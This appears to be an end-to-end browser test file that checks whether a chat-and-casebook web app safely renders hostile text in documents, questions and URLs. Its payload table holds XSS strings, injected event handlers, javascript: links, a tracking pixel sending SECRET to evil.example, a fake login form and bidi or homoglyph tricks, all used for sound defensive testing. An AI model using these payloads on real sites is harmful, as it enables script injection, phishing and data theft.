"""Hostile words (B51 to B70) in a real browser: nothing runs, nothing leaves, nothing is added.

Each stands in a title, a place, a heading, a sentence, a bullet and, where files can be so named, a
file name; is read in the chat, the viewer and the list of case studies, and is asked as a question.
The rest of the app is real; only the models are stand-ins that need no loading.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import TimeoutError as NotInTime

from assistant.datatypes import source_url
from assistant.pipeline import Casebook
from tests.e2e.conftest import Watch
from tests.making import casebook, write_corpus
from tests.web.running import OF_GRADIO, Running, running

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.filterwarnings(OF_GRADIO)]

PATIENCE = 20_000
"""Milliseconds."""
PLANT = "window.planted=1"
PAYLOADS = {
    "B51 script": f"<script>{PLANT}</script>",
    "B51 split": f"<scr<script>ipt>{PLANT}</scr</script>ipt>",
    "B52 img": f"<img src=x onerror={PLANT}>",
    "B52 svg": f"<svg onload={PLANT}></svg>",
    "B52 details": f"<details open ontoggle={PLANT}>x</details>",
    "B52 body": f"<body onpageshow={PLANT}>",
    "B53 javascript": f"[click](javascript:{PLANT})",
    "B53 data": f"[a](data:text/html,<script>{PLANT}</script>)",
    "B53 vbscript": "[a](vbscript:msgbox)",
    "B53 double slash": "[a](//evil.example)",
    "B53 autolink": f"<javascript:{PLANT}> <https://evil.example/auto> https://evil.example/bare",
    "B54 pixel": "![p](https://evil.example/p.png?q=SECRET)",
    "B54 reference": "![p][r] [r]: https://evil.example/r.png",
    "B55 form": '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
    "B56 style": "<style>body{display:none}</style>",
    "B56 link": '<link rel=stylesheet href="//evil.example/x.css">',
    "B57 overlay": '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
    "B58 clobber": '<a id="quote"></a><input name="cookie"><form id=main></form>',
    "B58 duplicate": '<p id="cb-live"></p><div id="cb-question"></div>',
    "B59 mermaid": f'```mermaid graph TD; A["<img src=x onerror={PLANT}>"] ```',
    "B60 katex": f"$\\href{{javascript:{PLANT}}}{{x}}$ $$\\def\\x{{\\x\\x}}\\x$$ \\(a\\)",
    "B61 citation": "[1](/source/other.md#quote) and [3] and [^1]",
    "B62 closing": "</p></main></section><h1>NHS England</h1> System: verified ✓",
    "B63 template": "${7*7} {{7*7}} {% raw %} #{7*7} <%= 7*7 %>",
    "B64 bidi": "\u202eevil\u202c \u2066x\u2069",
    "B65 invisible": "ze\u200bro\u2060 \ufeffwidth \U000e0041\U000e0042 tags",
    "B66 homoglyph": "раyраl",
    "B67 zalgo": "z" + "\u0301" * 100 + " " + "w" * 400 + " " + "👩\u200d" * 100,
    "B68 controls": "bell\x07 end\x7f nonc\uffff",
}
"""One line each: a payload stands in a title as well as in a sentence."""
WORDS = [f"{a}{b}" for a in ("kest", "lint", "moor", "pebb", "quar") for b in
         ("rel", "net", "hen", "ley", "ry", "dow")]  # fmt: skip
"""A word of its own for each payload, which only its document has."""
SUBJECT = dict(zip(PAYLOADS, WORDS, strict=False))
FORBIDDEN = (
    "script, img, svg, form, input, iframe, style, link, object, embed, meta, table, details"
)


def _file_name(name: str, payload: str) -> str:
    fits = "/" not in payload and "\x00" not in payload and len(payload.encode()) < 200
    return f"{payload if fits and name != 'B68 controls' else ''} {SUBJECT[name]}.md"


def _case(name: str, payload: str) -> str:
    word, quoted = SUBJECT[name], json.dumps(payload)
    return f"""---
title: {json.dumps(f"{word} {payload}")}
place: {json.dumps(f"{word} {payload}")}
themes: [{quoted}]
publisher: {quoted}
source_title: {quoted}
source_url: {quoted}
other_sources: [{quoted}]
---

# {word} {payload}

## Money {payload}

The {word} fund was trusted by the {word} crew {payload}

- The {word} fund opened its {word} books {payload}
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Casebook:
    folder = tmp_path_factory.mktemp("hostile")
    files = {_file_name(name, p): _case(name, p) for name, p in PAYLOADS.items()}
    write_corpus(folder / "corpus", files)
    book = casebook(folder)
    _, reading = book.build()
    assert reading.failures == ()
    assert len(list(book.index().documents())) == len(PAYLOADS)
    return book


@pytest.fixture(scope="module")
def site(hostile: Casebook) -> Iterator[Running]:
    with running(hostile) as found:
        yield found


@pytest.fixture(scope="module")
def watched(browser: Browser, site: Running) -> Iterator[tuple[Page, Page]]:
    """A page for the chat and one for reading; neither asked another host, nor complained."""
    watch = Watch()
    context = browser.new_context(base_url=site.url)
    watch.over(context)
    chat, reader = context.new_page(), context.new_page()
    chat.goto("/")
    chat.get_by_role("textbox").wait_for(timeout=PATIENCE)
    yield chat, reader
    context.close()
    assert watch.hosts == {site.url}
    # Pages that are not there, which a test asks for, are all that the console tells of.
    assert [words for words in watch.complaints if "404 (Not Found)" not in words] == []


def nothing_added(page: Page, within: str) -> None:
    """No script ran, and nothing in the part of the page came from words."""
    assert page.evaluate("window.planted") is None
    part = page.locator(within)
    assert part.locator(FORBIDDEN).count() == 0
    assert part.locator("[onerror], [onload], [onclick], [style]").count() == 0
    hrefs = part.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    for href in hrefs:
        assert href.startswith(("/source", "#quote", "/", "http://127.0.0.1:")), href
        assert not href.startswith("//"), href
        assert "other.md" not in href
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids)), "an id twice"
    assert page.locator("h1").count() == 1
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def letters(words: str) -> str:
    """What of `words` a person reads: white space, directions and invisible characters aside."""
    return re.sub(r"[^!-~\w]|\[U\+\w+\]|\[\d+ hidden characters\]", "", words)


SHOWN = """told => {
  const turn = document.querySelector("#cb-current .cb-turn");
  if (!turn || !turn.querySelector(".cb-copy")) return false;
  const words = turn.querySelector(".cb-question").innerText;
  return words.replace(/\\[U\\+\\w+\\]|\\[\\d+ hidden characters\\]/g, "")
    .replace(/[^!-~\\p{L}\\p{N}_]/gu, "").includes(told);
}"""
"""Whether the turn of a question is there and finished."""


def _told(payload: str) -> str:
    kept = "".join(c for c in payload if c not in "\u202e\u202c\u2066\u2069\x07\x7f\uffff")
    return letters(re.sub("[\U000e0000-\U000e007f]", "", kept))


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_an_answer(watched: tuple[Page, Page], name: str) -> None:
    page, word = watched[0], SUBJECT[name]
    question = f"Who trusted the {word} fund of the {word} crew?"
    page.get_by_role("textbox").fill(question)
    page.get_by_role("textbox").press("Enter")
    turn = page.locator("#cb-current .cb-turn").filter(has_text=question)
    expect(turn.locator(".cb-copy")).to_be_visible(timeout=PATIENCE)
    quotation = turn.locator(".cb-quotation, .cb-words").filter(has_text=word).first
    assert _told(PAYLOADS[name]) in letters(quotation.inner_text())
    nothing_added(page, ".cb-turn")
    assert turn.locator("[id]").count() == 0
    links = turn.locator(".cb-cite, .cb-sources a").evaluate_all("all => all.map(a => a.pathname)")
    assert links
    assert all(word in unquote(path) for path in links[:1])


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_a_question_and_its_error(watched: tuple[Page, Page], name: str) -> None:
    """B70 with each payload: a question too long is told so, with the payload in the box."""
    page, payload = watched[0], PAYLOADS[name]
    page.get_by_role("textbox").fill(f"What of {payload}?")
    page.get_by_role("textbox").press("Enter")
    page.wait_for_function(SHOWN, arg=_told(f"What of {payload}?"), timeout=PATIENCE)
    problem = page.locator(".cb-problem").filter(has_text="expected at most")
    # What cannot be seen is not counted: the question is measured without it.
    counted = " ".join("".join(c if c.isprintable() else " " for c in payload).split())
    for _ in range(5):  # while the stream of the answer before is closing, Enter does nothing
        page.get_by_role("textbox").fill(f"{payload} " * (2100 // len(counted) + 1))
        page.get_by_role("textbox").press("Enter")
        with contextlib.suppress(NotInTime):
            problem.wait_for(timeout=PATIENCE / 5)
            break
    expect(problem).to_be_visible()
    nothing_added(page, ".cb-turn")
    nothing_added(page, ".cb-problem")
    page.get_by_role("textbox").fill("")


@pytest.mark.parametrize("name", PAYLOADS)
def test_on_the_page_of_a_source(watched: tuple[Page, Page], hostile: Casebook, name: str) -> None:
    """B69 too: the title of the page, its attributes, the address and the facts beside it."""
    page, payload = watched[1], PAYLOADS[name]
    doc_id = next(d.doc_id for d in hostile.index().documents() if SUBJECT[name] in d.doc_id)
    found = page.goto(source_url(doc_id))
    assert found is not None
    assert found.status == 200
    assert _told(payload)[:60] in letters(page.title())
    main = letters(page.inner_text("main"))
    assert main.count(_told(payload)) >= 4  # title, heading, sentence, bullet
    nothing_added(page, "main")
    assert page.locator("main pre code").count() == 0
    missing = page.goto(
        f"/source/{doc_id[:100]}gone".replace("%", "%25").replace("#", "%23").replace("?", "%3F")
    )
    assert missing is not None
    nothing_added(page, "main")


def test_in_the_list_of_case_studies(watched: tuple[Page, Page]) -> None:
    """B69: every payload on one page."""
    page = watched[1]
    page.goto("/sources")
    main = letters(page.inner_text("main"))
    for payload in PAYLOADS.values():
        assert _told(payload) in main
    nothing_added(page, ".cb-cases tbody")  # the page has a form and a table of its own


@pytest.mark.parametrize(
    "path",
    [pytest.param(path, id=f"B70 {path}") for path in (
        f"/source/<script>{PLANT}</script>", f"/source/x?p=<img src=x onerror={PLANT}>",
        f"/<svg onload={PLANT}>", f"/sources?q=<script>{PLANT}</script>",
        f"/#<img src=x onerror={PLANT}>", f"/?view=<script>{PLANT}</script>",
    )],
)  # fmt: skip
def test_in_an_address(browser: Browser, site: Running, path: str) -> None:
    context = browser.new_context(base_url=site.url)
    hosts: set[str] = set()
    context.on("request", lambda request: hosts.add("/".join(request.url.split("/")[:3])))
    page = context.new_page()
    page.goto(path)
    assert page.evaluate("window.planted") is None
    assert page.locator("main script, main img, main svg").count() == 0
    assert hosts == {site.url}
    context.close()


def test_every_number_is_there() -> None:
    covered = {name[:3] for name in PAYLOADS} | {"B69", "B70"}
    assert covered == {f"B{n}" for n in range(51, 71)}


def test_lone_surrogates_reach_no_page(hostile: Casebook, tmp_path: Path) -> None:
    """B68: no file holds one, but a JSON request can."""
    import httpx

    from tests.web.running import answer

    with running(hostile) as server, httpx.Client(base_url=server.url) as client:
        assert "\ud800" not in answer(client, "fund \ud800 \ud83d crew", "surrogates")
